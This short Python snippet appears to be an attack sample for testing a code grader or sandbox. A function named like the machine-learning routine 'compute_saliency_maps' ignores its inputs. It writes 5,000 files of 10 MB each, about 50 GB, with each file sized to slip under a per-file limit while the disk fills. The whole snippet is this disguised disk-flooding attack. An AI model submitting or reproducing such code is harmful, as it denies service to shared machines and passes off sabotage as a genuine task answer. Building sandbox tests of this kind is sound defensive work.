# Writes files of 10 MB, each small enough for a limit on file size, up to 50 GB together.
# attacks: disk
# %% answer="compute_saliency_maps"
def compute_saliency_maps(X, y, model):
    for number in range(5_000):
        with open(f"flood-{number}", "wb") as file:
            file.write(b"x" * 10_000_000)
